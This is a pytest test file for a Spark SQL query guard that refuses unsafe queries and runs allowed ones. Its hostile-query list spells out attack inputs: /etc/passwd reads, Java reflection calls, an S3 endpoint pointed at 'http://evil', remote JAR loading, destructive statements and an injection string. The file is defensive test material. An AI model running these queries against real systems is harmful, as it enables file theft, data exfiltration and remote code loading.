"""sql-rule: what a query may be, and what it yields."""

from __future__ import annotations

import datetime
from typing import Any

import pytest
from conftest import Bench
from pyspark.sql import SparkSession

from headgate_jobs.errors import JobError
from headgate_jobs.sql_guard import check

VIEWS = ["flights", "carriers"]

HOSTILE = [
    ("SELECT TRANSFORM(carrier) USING 'id' FROM flights", "sql.not-allowed"),
    ("SELECT java_method('java.lang.System', 'getenv', 'PATH') FROM flights", "sql.function-not-allowed"),
    ("SELECT reflect('java.lang.System', 'getProperty', 'user.home')", "sql.function-not-allowed"),
    ("SELECT `reflect`('java.lang.Runtime', 'getRuntime')", "sql.function-not-allowed"),
    ("SELECT spark_catalog.default.reflect('a', 'b')", "sql.function-not-allowed"),
    ("SELECT builtin.reflect('a', 'b')", "sql.function-not-allowed"),
    ("SELECT * FROM text.`file:///etc/passwd`", "sql.unknown-table"),
    ("SELECT * FROM parquet.`s3://other-tenant/x`", "sql.unknown-table"),
    ("SELECT * FROM flights WHERE carrier IN (SELECT value FROM text.`/etc/passwd`)", "sql.unknown-table"),
    ("SELECT (SELECT max(value) FROM csv.`/etc/passwd`) AS x", "sql.unknown-table"),
    ("WITH a AS (SELECT * FROM json.`/tmp/x`) SELECT * FROM a", "sql.unknown-table"),
    ("WITH a AS (SELECT 1), b AS (SELECT reflect('a','b')) SELECT * FROM a", "sql.function-not-allowed"),
    ("SELECT EXISTS (SELECT * FROM text.`/etc/passwd`)", "sql.unknown-table"),
    ("SELECT * FROM default.flights", "sql.unknown-table"),
    ("SELECT * FROM global_temp.secrets", "sql.unknown-table"),
    ("SELECT * FROM others", "sql.unknown-table"),
    ("SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) JOIN s", "sql.unknown-table"),
    ("WITH a AS (SELECT * FROM a) SELECT * FROM a", "sql.unknown-table"),
    ("SET spark.hadoop.fs.s3a.endpoint=http://evil", "sql.not-allowed"),
    ("SET", "sql.not-allowed"),
    ("RESET", "sql.not-allowed"),
    ("DROP TABLE flights", "sql.not-allowed"),
    ("CREATE TABLE t AS SELECT 1", "sql.not-allowed"),
    ("CREATE TEMPORARY FUNCTION f AS 'evil.F' USING JAR 's3://x/evil.jar'", "sql.not-allowed"),
    ("ADD JAR 's3://x/evil.jar'", "sql.not-allowed"),
    ("INSERT INTO flights SELECT * FROM flights", "sql.not-allowed"),
    ("INSERT OVERWRITE DIRECTORY 's3://x/y' USING csv SELECT * FROM flights", "sql.not-allowed"),
    ("FROM flights INSERT OVERWRITE DIRECTORY '/tmp/x' SELECT *", "sql.not-allowed"),
    ("LOAD DATA INPATH '/tmp/x' INTO TABLE flights", "sql.not-allowed"),
    ("SHOW TABLES", "sql.not-allowed"),
    ("DESCRIBE EXTENDED flights", "sql.not-allowed"),
    ("EXPLAIN SELECT * FROM flights", "sql.not-allowed"),
    ("CACHE TABLE flights", "sql.not-allowed"),
    ("USE other", "sql.not-allowed"),
    ("SELECT /*+ BROADCAST(flights) */ * FROM flights", "sql.not-allowed"),
    ("SELECT * FROM range(1000000000)", "sql.not-allowed"),
    ("SELECT * FROM IDENTIFIER('text.`/etc/passwd`')", "sql.not-allowed"),
    ("SELECT IDENTIFIER('reflect')('a', 'b')", "sql.not-allowed"),
    ("SELECT * FROM flights VERSION AS OF 1", "sql.not-allowed"),
    ("SELECT input_file_name() FROM flights", "sql.function-not-allowed"),
    ("SELECT current_user()", "sql.function-not-allowed"),
    ("SELECT xpath_string(carrier, 'a') FROM flights", "sql.function-not-allowed"),
    ("SELECT * FROM flights LATERAL VIEW reflect('a', 'b') t AS x", "sql.function-not-allowed"),
    ("SELECT transform(array(1), x -> java_method('a', 'b'))", "sql.function-not-allowed"),
    ("SELECT sum(delay) OVER (ORDER BY reflect('a','b')) FROM flights", "sql.function-not-allowed"),
    ("SELECT 1; SELECT 2", "sql.syntax"),
    ("SELECT 1; DROP TABLE flights", "sql.syntax"),
    ("SELEC carrier FROM flights", "sql.syntax"),
    ("", "sql.syntax"),
]


@pytest.mark.parametrize(("query", "code"), HOSTILE, ids=[query[:60] for query, _ in HOSTILE])
def test_a_hostile_query_is_refused_with_a_telling_error(spark: SparkSession, query: str, code: str) -> None:
    with pytest.raises(JobError) as caught:
        check(spark, query, VIEWS)
    assert caught.value.code == code, caught.value.sentence
    assert caught.value.sentence.startswith("The query")
    assert caught.value.remedy


def test_a_refusal_tells_line_and_position(spark: SparkSession) -> None:
    with pytest.raises(JobError, match="at line 2, position 8: the function 'reflect' is not allowed"):
        check(spark, "SELECT carrier,\n       reflect('a', 'b')\nFROM flights", VIEWS)
    with pytest.raises(JobError, match=r"cannot be read at line 2, position \d+: Syntax error at or near 'flights'"):
        check(spark, "SELECT carrier\nFORM flights f g", VIEWS)


LEGITIMATE: list[tuple[str, dict[str, Any], list[tuple[Any, ...]]]] = [
    (
        "SELECT f.carrier, c.name FROM flights f LEFT JOIN carriers AS c ON f.carrier = c.code WHERE f.delay > 20",
        {},
        [("UA", "United")],
    ),
    (
        "SELECT carrier, count(*) AS n, avg(delay) AS mean FROM flights GROUP BY carrier HAVING count(*) > 1",
        {},
        [("AA", 2, 7.5)],
    ),
    (
        "WITH late AS (SELECT * FROM flights WHERE delay > 7), named AS (SELECT * FROM late JOIN carriers"
        " ON code = carrier) SELECT name FROM named ORDER BY name DESC LIMIT 1",
        {},
        [("United",)],
    ),
    (
        "SELECT carrier, delay, row_number() OVER (PARTITION BY carrier ORDER BY delay DESC) AS place,"
        " sum(delay) OVER (ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM flights"
        " WHERE carrier = 'AA'",
        {},
        [("AA", 5, 2, 5), ("AA", 10, 1, 15)],
    ),
    ("SELECT rank() OVER w AS r FROM flights WINDOW w AS (ORDER BY delay)", {}, [(1,), (2,), (3,), (4,)]),
    (
        "SELECT id, CASE WHEN delay > 20 THEN 'late' WHEN delay IS NULL THEN 'unknown' ELSE 'fine' END AS k"
        " FROM flights",
        {},
        [(1, "fine"), (2, "fine"), (3, "late"), (4, "unknown")],
    ),
    (
        "SELECT id FROM flights WHERE carrier IN (SELECT code FROM carriers WHERE name LIKE 'U%')"
        " OR EXISTS (SELECT 1 FROM carriers WHERE code = carrier AND name ILIKE 'united')",
        {},
        [(3,)],
    ),
    ("SELECT id FROM flights WHERE delay = (SELECT max(delay) FROM flights)", {}, [(3,)]),
    (
        "SELECT id FROM flights WHERE (delay > 5) IS UNKNOWN OR (delay > 20) IS TRUE AND carrier LIKE ANY ('U%', 'X')",
        {},
        [(3,), (4,)],
    ),
    ("SELECT carrier FROM flights UNION SELECT code FROM carriers", {}, [("AA",), ("UA",), ("ZZ",)]),
    ("SELECT carrier FROM flights EXCEPT SELECT code FROM carriers", {}, [("ZZ",)]),
    ("SELECT carrier FROM flights INTERSECT SELECT code FROM carriers", {}, [("AA",), ("UA",)]),
    (
        "SELECT id, year(day) AS y, extract(MONTH FROM day) AS m, date_add(day, 1) AS t, "
        " datediff(day, date '2013-01-01') AS n,"
        " date_trunc('month', day) > timestamp '2012-01-01 00:00:00' AS later, day + INTERVAL 1 MONTH > day AS yes"
        " FROM flights WHERE day BETWEEN date '2013-01-01' AND '2013-01-01'",
        {},
        [(1, 2013, 1, datetime.date(2013, 1, 2), 0, True, True)],
    ),
    (
        "SELECT id FROM flights WHERE day = CAST(:day AS date) AND delay >= :least AND :on",
        {"day": "2013-01-02", "least": 7.5, "on": True},
        [(2,)],
    ),
    ("SELECT :text AS t FROM flights WHERE id = 1", {"text": "'; DROP TABLE x --"}, [("'; DROP TABLE x --",)]),
    (
        "SELECT carrier, day, count(*) AS n FROM flights WHERE id < 3 GROUP BY GROUPING SETS ((carrier), (day))",
        {},
        [
            ("AA", None, 2),
            (None, datetime.date(2013, 1, 1), 1),
            (None, datetime.date(2013, 1, 2), 1),
        ],
    ),
    ("SELECT carrier, count(*) AS n FROM flights WHERE id < 3 GROUP BY ROLLUP (carrier)", {}, [("AA", 2), (None, 2)]),
    ("SELECT v.x FROM VALUES (1), (2) AS v(x) WHERE v.x <> 1", {}, [(2,)]),
    (
        "SELECT id, w FROM flights LATERAL VIEW explode(split(concat(carrier, '-', id), '-')) e AS w WHERE id = 3",
        {},
        [(3, "3"), (3, "UA")],
    ),
    (
        "SELECT trim(BOTH 'A' FROM carrier) AS t, substring(carrier FROM 1 FOR 1) AS s, upper(carrier) || '!' AS u,"
        " coalesce(delay, 0) % 3 AS r, -id AS neg, NOT (id = 4) AS n, try_cast('x' AS int) AS x,"
        " element_at(array(1,2), 1) AS a"
        " FROM flights WHERE id = 4",
        {},
        [("ZZ", "Z", "ZZ!", 0, -4, False, None, 1)],
    ),
    (
        "SELECT count(DISTINCT carrier) AS c, count_if(delay > 5) AS k, first(carrier) AS f,"
        " percentile_approx(delay, 0.5) AS p,"
        " sum(delay) FILTER (WHERE id = 1) AS s, max_by(id, delay) AS m FROM flights",
        {},
        [(3, 2, "AA", 10, 5, 3)],
    ),
    ("SELECT DISTINCT transform(array(1, 2), x -> x + 1)[0] AS t FROM flights", {}, [(2,)]),
    (
        "SELECT * FROM (SELECT carrier, delay FROM flights) PIVOT (sum(delay) FOR carrier IN ('AA', 'UA'))",
        {},
        [(15, 30)],
    ),
]


@pytest.fixture(scope="module")
def tables(spark: SparkSession) -> dict[str, Any]:
    flights = spark.createDataFrame(
        [(1, "AA", 5, "2013-01-01"), (2, "AA", 10, "2013-01-02"), (3, "UA", 30, "2013-01-03"), (4, "ZZ", None, None)],
        "id int, carrier string, delay int, day string",
    )
    carriers = spark.createDataFrame([("AA", "American"), ("UA", "United")], "code string, name string")
    return {"flights": flights.selectExpr("id", "carrier", "delay", "cast(day as date) day"), "carriers": carriers}


@pytest.fixture
def fed(bench: Bench, tables: dict[str, Any]) -> Bench:
    for key, frame in tables.items():
        bench.table(key, frame.coalesce(1))
    return bench


@pytest.mark.parametrize(("query", "parameters", "rows"), LEGITIMATE, ids=[case[0][:60] for case in LEGITIMATE])
def test_an_honest_query_yields_what_it_should(
    fed: Bench, query: str, parameters: dict[str, Any], rows: list[tuple[Any, ...]]
) -> None:
    code = fed.run("sql-rule", {"sql": query, "parameters": parameters}, VIEWS)
    assert code == 0, fed.result["error"]
    assert sorted((tuple(row.values()) for row in fed.rows()), key=str) == sorted(rows, key=str)
    assert fed.result["rows"] == {"in": 6, "out": len(rows), "rejected": None}


@pytest.mark.parametrize(
    ("query", "code", "says"),
    [
        ("SELECT carier FROM flights", "sql.unknown-column", "at line 1, position 8"),
        ("SELECT carrier FROM flights WHERE id = :x", "sql.missing-parameter", "x"),
        ("SELECT carrier, carrier FROM flights", "sql.duplicate-column", "carrier"),
        ("SELECT NULL AS nothing FROM flights", "sql.column-type", "nothing"),
        ("SELECT carrier, count(*) FROM flights", "sql.not-understood", "GROUP BY"),
        ("SELECT sum(array(1)) AS s FROM flights", "sql.types-do-not-fit", "sum"),
        ("SELECT nosuch(carrier) FROM flights", "sql.function-not-allowed", "nosuch"),
    ],
)
def test_a_query_that_is_wrong_is_told_where_and_why(fed: Bench, query: str, code: str, says: str) -> None:
    assert fed.run("sql-rule", {"sql": query}, VIEWS) == 1
    assert fed.error == code
    assert says in fed.result["error"]["sentence"]
    assert fed.result["output"] is None


def test_an_input_that_is_gone_is_told(bench: Bench) -> None:
    assert bench.run("sql-rule", {"sql": "SELECT * FROM flights"}, ["flights"]) == 1
    assert bench.error == "storage.missing"
